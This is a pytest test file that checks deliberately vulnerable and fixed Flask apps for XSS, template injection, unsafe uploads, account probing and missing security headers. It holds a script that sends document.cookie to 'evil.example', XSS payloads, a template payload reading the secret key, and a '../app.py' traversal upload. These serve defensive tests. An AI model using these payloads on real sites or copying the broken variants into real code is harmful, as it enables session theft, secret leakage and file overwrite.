"""Flaws in Flask applications: the exploit, what stops it, and that honest use goes on."""

import re
from collections.abc import Iterator
from io import BytesIO
from pathlib import Path

import pytest
from flask import Flask
from PIL import Image

from flaws import account_probing, headers, template_injection, upload, xss

SCRIPT = "<script>fetch('https://evil.example/?' + document.cookie)</script>"


@pytest.fixture(autouse=True)
def no_reports() -> Iterator[None]:
    xss.reports.clear()
    yield


def page_with(app: Flask, body: str, link: str = "") -> str:
    client = app.test_client()
    client.post("/reports", data={"body": body, "link": link})
    return client.get("/reports").text


# region: xss
def test_xss_script_of_one_visitor_reaches_the_others() -> None:
    assert SCRIPT in page_with(xss.broken, SCRIPT)


def test_xss_fixed_text_stays_text() -> None:
    page = page_with(xss.fixed, SCRIPT)
    assert "<script" not in page
    assert "&lt;script&gt;" in page
# endregion


def test_xss_attribute_without_quotes_takes_a_handler() -> None:
    assert "<a href=x onmouseover=alert(1)>" in page_with(xss.broken, "Ice", "x onmouseover=alert(1)")


def test_xss_link_that_is_a_script() -> None:
    assert "<a href=javascript:alert(1)>" in page_with(xss.broken, "Ice", "javascript:alert(1)")


@pytest.mark.parametrize("link", ["javascript:alert(1)", "x onmouseover=alert(1)", " javascript:alert(1)", "data:text/html,x", "//["])
def test_xss_fixed_only_web_links_become_links(link: str) -> None:
    assert "<a " not in page_with(xss.fixed, "Ice", link)


def test_xss_fixed_quotes_cannot_leave_the_attribute() -> None:
    assert 'href="https://example.com/&#34; onmouseover=&#34;x"' in page_with(xss.fixed, "Ice", 'https://example.com/" onmouseover="x')


def test_xss_fixed_honest_link() -> None:
    assert '<a href="https://example.com/ice.jpg">' in page_with(xss.fixed, "Ice", "https://example.com/ice.jpg")


def hello(app: Flask, name: str) -> str:
    return app.test_client().get("/hello", query_string={"name": name}).text


def test_template_injection_reads_the_secret_key() -> None:
    assert hello(template_injection.broken, "{{ config.SECRET_KEY }}") == "Hello the key that signs every session!"


def test_template_injection_fixed() -> None:
    assert hello(template_injection.fixed, "{{ config.SECRET_KEY }}") == "Hello {{ config.SECRET_KEY }}!"


@pytest.fixture
def photos(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = tmp_path / "photos"
    folder.mkdir()
    monkeypatch.setattr(upload, "FOLDER", folder)
    return folder


def send(app: Flask, name: str, content: bytes) -> tuple[int, str]:
    answer = app.test_client().post("/photos", data={"photo": (BytesIO(content), name)})
    return answer.status_code, answer.text


def picture(size: tuple[int, int] = (8, 8), kind: str = "PNG") -> bytes:
    file = BytesIO()
    exif = Image.Exif()
    exif[0x8825] = {1: "N", 2: (47.0, 30.0, 0.0)}  # where the photo was taken
    Image.new("RGB", size, "green").save(file, kind, exif=exif)
    return file.getvalue()


def test_upload_leaves_the_folder(photos: Path) -> None:
    send(upload.broken, "../app.py", b"print('mine now')")
    assert (photos.parent / "app.py").read_bytes() == b"print('mine now')"


def test_upload_becomes_a_page_of_the_site(photos: Path) -> None:
    send(upload.broken, "photo.html", SCRIPT.encode())
    with upload.broken.test_client().get("/photos/photo.html") as answer:
        assert (answer.mimetype, answer.text) == ("text/html", SCRIPT)


@pytest.mark.parametrize("name", ["../app.py", "photo.html", "photo.svg", "photo.jpg"])
def test_upload_fixed_takes_pictures_only(photos: Path, name: str) -> None:
    assert send(upload.fixed, name, SCRIPT.encode())[0] == 415
    assert list(photos.parent.rglob("*.*")) == []


def test_upload_fixed_script_behind_a_picture_is_gone(photos: Path) -> None:
    status, name = send(upload.fixed, "photo.html", picture() + SCRIPT.encode())
    assert status == 200
    assert b"<script" not in (photos / name).read_bytes()
    with upload.fixed.test_client().get(f"/photos/{name}") as answer:
        assert (answer.mimetype, answer.headers["X-Content-Type-Options"]) == ("image/jpeg", "nosniff")


def test_upload_fixed_position_is_gone(photos: Path) -> None:
    content = picture(kind="JPEG")
    assert Image.open(BytesIO(content)).getexif().get_ifd(0x8825)
    _, name = send(upload.fixed, "ice.jpg", content)
    with Image.open(photos / name) as kept:
        assert not kept.getexif()


def test_upload_fixed_picture_too_large(photos: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(upload, "MOST_PIXELS", 63)
    assert send(upload.fixed, "ice.png", picture())[0] == 413


def test_upload_fixed_picture_larger_than_pillow_opens(photos: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 31)
    assert send(upload.fixed, "ice.png", picture())[0] == 413


def test_upload_fixed_picture_stays_upright(photos: Path) -> None:
    file, exif = BytesIO(), Image.Exif()
    exif[0x0112] = 6  # orientation: turned by a quarter, as phones store it
    Image.new("RGB", (8, 4)).save(file, "JPEG", exif=exif)
    _, name = send(upload.fixed, "ice.jpg", file.getvalue())
    with Image.open(photos / name) as kept:
        assert kept.size == (4, 8)


def test_upload_fixed_file_too_large(photos: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(upload.fixed.config, "MAX_CONTENT_LENGTH", 100)
    assert send(upload.fixed, "ice.png", picture())[0] == 413


def login(app: Flask, name: str, password: str) -> tuple[int, str]:
    answer = app.test_client().post("/login", data={"name": name, "password": password})
    return answer.status_code, answer.text


class Counting:
    """Counts how often a password is hashed: that is what takes the time."""

    def __init__(self, passwords: object) -> None:
        self.passwords, self.hashed = passwords, 0

    def verify(self, password: str, stored: str) -> bool:
        self.hashed += 1
        return self.passwords.verify(password, stored)


@pytest.fixture
def counting(monkeypatch: pytest.MonkeyPatch) -> Counting:
    counting = Counting(account_probing.passwords)
    monkeypatch.setattr(account_probing, "passwords", counting)
    return counting


def test_account_probing_by_words_and_by_time(counting: Counting) -> None:
    assert login(account_probing.broken, "nobody", "x") == (401, "There is no such user.")
    assert counting.hashed == 0
    assert login(account_probing.broken, "hiker", "x") == (401, "The password is wrong.")
    assert counting.hashed == 1


def test_account_probing_fixed_same_words_same_work(counting: Counting) -> None:
    unknown = login(account_probing.fixed, "nobody", "x")
    assert counting.hashed == 1
    assert login(account_probing.fixed, "hiker", "x") == unknown == (401, "The user name or the password is wrong.")
    assert counting.hashed == 2


def test_account_probing_fixed_honest_login() -> None:
    assert login(account_probing.fixed, "hiker", "quiet-granite-path") == (200, "Welcome.")


def search(app: Flask, base_url: str = "http://localhost"):
    return app.test_client().get("/search", query_string={"q": "<script>alert(1)</script>"}, base_url=base_url)


def scripts_that_run(answer) -> list[str]:
    """What a browser would run: without a policy every script, with one those that carry its nonce."""
    policy = answer.headers.get("Content-Security-Policy", "")
    scripts = re.findall(r"<script([^>]*)>(.*?)</script>", answer.text)
    nonce = re.search(r"script-src 'nonce-([^']+)'", policy)
    return [code for attributes, code in scripts if nonce is None or f'nonce="{nonce[1]}"' in attributes]


def test_headers_missing_every_script_runs() -> None:
    answer = search(headers.broken)
    assert scripts_that_run(answer) == ["alert(1)"]
    assert "X-Content-Type-Options" not in answer.headers
    assert "Content-Security-Policy" not in answer.headers  # so any site may show the page in a frame


def test_headers_fixed_only_our_script_runs() -> None:
    answer = search(headers.fixed)
    assert scripts_that_run(answer) == ['document.title = "Search"']
    assert "frame-ancestors 'none'" in answer.headers["Content-Security-Policy"]
    assert answer.headers["X-Content-Type-Options"] == "nosniff"


def test_headers_fixed_nonce_is_never_the_same() -> None:
    policies = {search(headers.fixed).headers["Content-Security-Policy"] for _ in range(3)}
    assert len(policies) == 3


def test_headers_fixed_hsts_over_https_only() -> None:
    assert "Strict-Transport-Security" not in search(headers.fixed).headers
    assert search(headers.fixed, "https://localhost").headers["Strict-Transport-Security"] == "max-age=31536000"
